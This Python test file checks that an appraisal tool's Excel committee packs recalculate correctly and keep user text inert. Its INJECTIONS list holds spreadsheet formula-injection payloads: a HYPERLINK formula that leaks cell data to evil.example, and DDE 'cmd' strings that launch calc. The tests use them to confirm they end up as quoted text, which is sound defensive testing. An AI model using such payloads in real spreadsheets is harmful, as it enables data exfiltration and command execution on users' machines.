"""The committee pack: live formulas that recalculate to the engine's totals, inert user text, report formats."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import formulas
import numpy as np
import openpyxl
import pytest

from appraisal.analysis.scoring import Appraisal, competition_ranks, percent_of_max
from appraisal.formats.load import load_case
from appraisal.formats.mapping import case_from_mapping
from appraisal.report.excel_pack import committee_pack, totals_layout
from tests.conftest import ROOT

INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3", "\t=1+1", "=1+2"]


def _recalculate(data: bytes, tmp_path: Path) -> dict[str, Any]:
    """Every cell's value as the `formulas` evaluator computes it: {'TOTALS!C3': value}."""
    path = tmp_path / "pack.xlsx"
    path.write_bytes(data)
    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
    out = {}
    for key, value in solution.items():
        ref = key.split("]", 1)[-1].replace("'", "")
        if ":" not in ref:
            out[ref.upper()] = np.asarray(getattr(value, "value", value)).ravel()[0]
    return out


def _check_totals(case, data: bytes, tmp_path: Path) -> None:
    ap = Appraisal(case)
    values = _recalculate(data, tmp_path)
    rows = totals_layout(ap)
    for k in range(len(ap.set_ids)):
        col = openpyxl.utils.get_column_letter(k + 2)
        totals = ap.all_totals[k]
        pct = percent_of_max(totals, ap.W[k], ap.max_values)
        ranks = competition_ranks(totals)
        for i in range(ap.n_options):
            assert float(values[f"TOTALS!{col}{rows['totals'] + i}"]) == pytest.approx(totals[i], abs=1e-9)
            assert 100 * float(values[f"TOTALS!{col}{rows['percent'] + i}"]) == pytest.approx(pct[i], abs=1e-9)
            assert int(values[f"TOTALS!{col}{rows['rank'] + i}"]) == ranks[i]


def test_sample_pack_recalculates_to_the_engine(sample_case, tmp_path: Path) -> None:
    _check_totals(sample_case, committee_pack(sample_case), tmp_path)


def test_formulas_are_live_sumproducts(sample_case) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(sample_case)))
    ws = wb["Totals"]
    first = ws.cell(row=totals_layout(Appraisal(sample_case))["totals"], column=2)
    assert first.data_type == "f"
    assert first.value.startswith("=SUMPRODUCT(Scores!$B$2:$K$2,Weights!$C$2:$L$2)")
    # Issue 17 changed the look-up: MATCH read * ? ~ in labels as wildcards (was "=INDEX(Scale!…MATCH(…)").
    assert wb["Scores"]["B2"].value.startswith("=LOOKUP(2,1/(Scale!$A$2:")
    assert wb["Totals"].cell(row=3, column=2).number_format == "#,##0.0"


def test_changing_a_rating_in_the_workbook_recalculates(minimal: dict[str, Any], tmp_path: Path) -> None:
    case = case_from_mapping(minimal, "m")
    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(case)))
    wb["Ratings"]["B2"] = "High"   # as_is × finance: Low → High
    out = io.BytesIO()
    wb.save(out)
    minimal["scores"]["as_is"]["finance"] = "High"
    _check_totals(case_from_mapping(minimal, "m2"), out.getvalue(), tmp_path)


def test_formula_injection_in_names_comes_out_inert(minimal: dict[str, Any], tmp_path: Path) -> None:
    minimal["title"] = INJECTIONS[0]
    for option, text in zip(minimal["options"], INJECTIONS[1:4]):
        option["name"] = text
    minimal["criteria"][0]["name"] = INJECTIONS[4].strip() + " criterion"
    minimal["criteria"][1]["name"] = INJECTIONS[5]
    minimal["weight_sets"][0]["name"] = "=cmd|'/c calc'!A1"
    minimal["councils"][0]["name"] = "@North"
    case = case_from_mapping(minimal, "m")
    data = committee_pack(case)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    user_text = {case.title, *(o.name for o in case.options), *(c.name for c in case.criteria),
                 *(w.name for w in case.weight_sets), *(c.name for c in case.councils)}
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    # Our own formulas only: built from references, never from user text.
                    assert not any(t in cell.value for t in user_text), cell.coordinate
                    assert "HYPERLINK" not in cell.value and "cmd" not in cell.value
                elif isinstance(cell.value, str) and any(cell.value.startswith(t) or t in cell.value for t in user_text):
                    found += 1
                    assert cell.data_type == "s"
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r}"
    assert found >= 10
    _check_totals(case, data, tmp_path)


def test_sheets_formats_and_the_status_quo_marked(sample_case) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(sample_case)))
    assert wb.sheetnames == ["Read me", "Scale", "Ratings", "Scores", "Weights", "Totals", "Sensitivity", "SMAA"]
    assert wb["Ratings"]["A2"].value == "As is (business as usual)"
    assert wb["Ratings"]["B2"].value == "Low"
    assert "ILLUSTRATIVE" in wb["Read me"]["A4"].value
    smaa = wb["SMAA"]
    assert smaa["B4"].number_format == "0%"
    shares = [smaa.cell(row=4 + i, column=2).value for i in range(4)]
    assert sum(shares) == pytest.approx(1.0)
    sens = wb["Sensitivity"]
    assert sens["B5"].number_format == "0.0%" and 0 < sens["B5"].value < 1


def test_savings_by_year_and_council_when_the_case_has_savings() -> None:
    path = ROOT / "data" / "strategic_partnership_2022.yaml"
    if not path.exists():
        pytest.skip("no shipped case with a savings section")
    case = load_case(path)
    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(case)))
    assert "Savings" in wb.sheetnames
    ws = wb["Savings"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Savings by year and council" in texts
    money_cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, float) and "£" in c.number_format]
    assert money_cells, "money is formatted as £"
    council_names = {c.name for c in case.councils}
    assert council_names <= set(texts)


# --- Recalculated in a real spreadsheet engine (LibreOffice), and readable without recalculating -----

STAR_SCALE = {"***": 3, "**": 2, "*": 1}


def _star_case(minimal: dict[str, Any]):
    """The minimal case on a ***/**/* scale: MATCH would read each label as a wildcard pattern."""
    minimal["rating_scale"] = dict(STAR_SCALE)
    stars = {"High": "***", "Medium": "**", "Low": "*"}
    minimal["scores"] = {o: {c: stars[v] for c, v in row.items()} for o, row in minimal["scores"].items()}
    return case_from_mapping(minimal, "stars")


def _without_cached_values(data: bytes) -> bytes:
    """The pack with the computed values taken out, so the engine must calculate every formula itself."""
    import re
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, re.sub(rb"</f><v>[^<]*</v>", b"</f><v />", source.read(info.filename)))
    return out.getvalue()


def _libreoffice(packs: dict[str, bytes], tmp_path: Path) -> dict[str, openpyxl.Workbook]:
    """Each pack opened, recalculated and saved again by LibreOffice (headless), read back with its values.

    A private profile sets "recalculate on load: always", so nothing cached in the file survives."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui; .ci/run installs it)")
    profile = tmp_path / "lo-profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">'
        "<value>0</value></prop></item></oor:items>\n")
    inputs, out = tmp_path / "in", tmp_path / "out"
    inputs.mkdir()
    for name, data in packs.items():
        (inputs / f"{name}.xlsx").write_bytes(_without_cached_values(data))
    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--calc", "--convert-to", "xlsx",
                    "--outdir", str(out), *sorted(str(p) for p in inputs.iterdir())],
                   check=True, capture_output=True, timeout=180)
    return {name: openpyxl.load_workbook(out / f"{name}.xlsx", data_only=True) for name in packs}


def _assert_totals_shown(case, wb: openpyxl.Workbook) -> None:
    """The Totals sheet's values (as a viewer shows them) equal the engine's totals, percentages and ranks."""
    ap = Appraisal(case)
    rows = totals_layout(ap)
    ws = wb["Totals"]
    for k in range(len(ap.set_ids)):
        totals = ap.all_totals[k]
        pct = percent_of_max(totals, ap.W[k], ap.max_values)
        ranks = competition_ranks(totals)
        for i in range(ap.n_options):
            shown = [ws.cell(row=rows[block] + i, column=k + 2).value for block in ("totals", "percent", "rank")]
            assert None not in shown, f"{ap.set_names[k]}, {ap.option_names[i]}: no value {shown}"
            assert float(shown[0]) == pytest.approx(totals[i], abs=1e-9)
            assert 100 * float(shown[1]) == pytest.approx(pct[i], abs=1e-9)
            assert int(shown[2]) == ranks[i]


def test_libreoffice_recalculates_every_pack_to_the_engine(minimal: dict[str, Any], tmp_path: Path) -> None:
    """Issue 17: with a ***/**/* scale, MATCH read the labels as wildcards and every option tied (18, 18, 18
    in LibreOffice). The shipped cases and the star-scale case, recalculated by LibreOffice, give the
    engine's totals, percentages and ranks."""
    cases = {path.stem: load_case(path) for path in sorted((ROOT / "data").glob("*.yaml"))}
    cases["stars"] = _star_case(minimal)
    recalculated = _libreoffice({name: committee_pack(case) for name, case in cases.items()}, tmp_path)
    for name, case in cases.items():
        _assert_totals_shown(case, recalculated[name])
    stars = Appraisal(cases["stars"])
    assert len(set(stars.all_totals[0])) > 1, "the star case must not tie by construction"


def test_the_star_scale_pack_recalculates_with_the_formulas_package(minimal: dict[str, Any], tmp_path: Path) -> None:
    case = _star_case(minimal)
    _check_totals(case, _without_cached_values(committee_pack(case)), tmp_path)


def test_the_pack_carries_its_computed_values(sample_case, minimal: dict[str, Any]) -> None:
    """Issue 18: a viewer that does not recalculate (a previewer, a mail client, openpyxl data_only) shows
    the numbers: every formula cell of the pack as the app makes it carries its value."""
    for case in (sample_case, _star_case(minimal), load_case(ROOT / "data" / "strategic_partnership_2022.yaml")):
        data = committee_pack(case)
        _assert_totals_shown(case, openpyxl.load_workbook(io.BytesIO(data), data_only=True))
        with_formulas = openpyxl.load_workbook(io.BytesIO(data))
        values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
        ap = Appraisal(case)
        for sheet in ("Scores", "Weights", "Totals"):
            for row in with_formulas[sheet].iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert values[sheet][cell.coordinate].value is not None, f"{sheet}!{cell.coordinate}"
        assert values["Scores"]["B2"].value == pytest.approx(ap.S[0, 0])
        assert values["Weights"].cell(row=2, column=ap.n_criteria + 3).value == pytest.approx(ap.W[0].sum())
        assert with_formulas["Totals"].cell(row=3, column=2).value.startswith("=SUMPRODUCT(")


# --- Measured criteria (issue 20): raw values on Ratings, live value functions on Scores --------------

def _measured_mapping(minimal: dict[str, Any]) -> dict[str, Any]:
    """Finance as £k a year saved on a bent value function; Deliverability as minutes, lower is better."""
    minimal["criteria"][0]["scale"] = {"unit": "£k a year", "direction": "higher", "range": [0, 300],
                                       "points": [[0, 0], [200, 80], [300, 100]]}
    minimal["criteria"][2]["scale"] = {"unit": "minutes", "direction": "lower", "range": [20, 60]}
    minimal["scores"] = {
        "as_is": {"finance": 0, "place": "Medium", "risk": 30},
        "shared": {"finance": 250, "place": "High", "risk": 55},
        "alone": {"finance": 120, "place": "Low", "risk": 40},
    }
    return minimal


def test_measured_criteria_score_through_live_value_functions(minimal: dict[str, Any], tmp_path: Path) -> None:
    """The pack carries raw values, scores them with a formula through the value function and totals
    them; changing a raw value in the workbook re-scores, re-totals and re-ranks in LibreOffice as the
    engine does. The cheaper (quicker) option scores higher on the lower-is-better criterion."""
    import copy

    data = _measured_mapping(minimal)
    case = case_from_mapping(data, "measured")
    pack = committee_pack(case)
    wb = openpyxl.load_workbook(io.BytesIO(pack))
    assert "Value functions" in wb.sheetnames
    assert wb["Ratings"]["B3"].value == 250 and wb["Ratings"]["D3"].value == 55
    assert wb["Scores"]["B2"].value.startswith("=INDEX('Value functions'!")
    # A raw value changed in the workbook: as is now saves £240k a year and takes 60 minutes.
    wb["Ratings"]["B2"] = 240
    wb["Ratings"]["D2"] = 60
    out = io.BytesIO()
    wb.save(out)
    changed = copy.deepcopy(data)
    changed["scores"]["as_is"]["finance"] = 240
    changed["scores"]["as_is"]["risk"] = 60
    changed_case = case_from_mapping(changed, "changed")
    recalculated = _libreoffice({"measured": pack, "changed": out.getvalue()}, tmp_path)
    for name, c in (("measured", case), ("changed", changed_case)):
        ap = Appraisal(c)
        scores = recalculated[name]["Scores"]
        shown = np.array([[scores.cell(row=i + 2, column=j + 2).value for j in range(ap.n_criteria)]
                          for i in range(ap.n_options)], dtype=float)
        assert shown == pytest.approx(ap.S, abs=1e-9)
        _assert_totals_shown(c, recalculated[name])
    ap = Appraisal(case)
    risk = ap.criterion_ids.index("risk")
    quickest, slowest = int(np.argmin(ap.raw[:, risk])), int(np.argmax(ap.raw[:, risk]))
    scores = recalculated["measured"]["Scores"]
    assert scores.cell(row=quickest + 2, column=risk + 2).value > scores.cell(row=slowest + 2, column=risk + 2).value
    assert Appraisal(changed_case).S[0, 0] == pytest.approx(88.0)   # 240 on the 200→80, 300→100 segment


def test_measured_pack_recalculates_with_the_formulas_package(minimal: dict[str, Any], tmp_path: Path) -> None:
    case = case_from_mapping(_measured_mapping(minimal), "measured")
    _check_totals(case, _without_cached_values(committee_pack(case)), tmp_path)
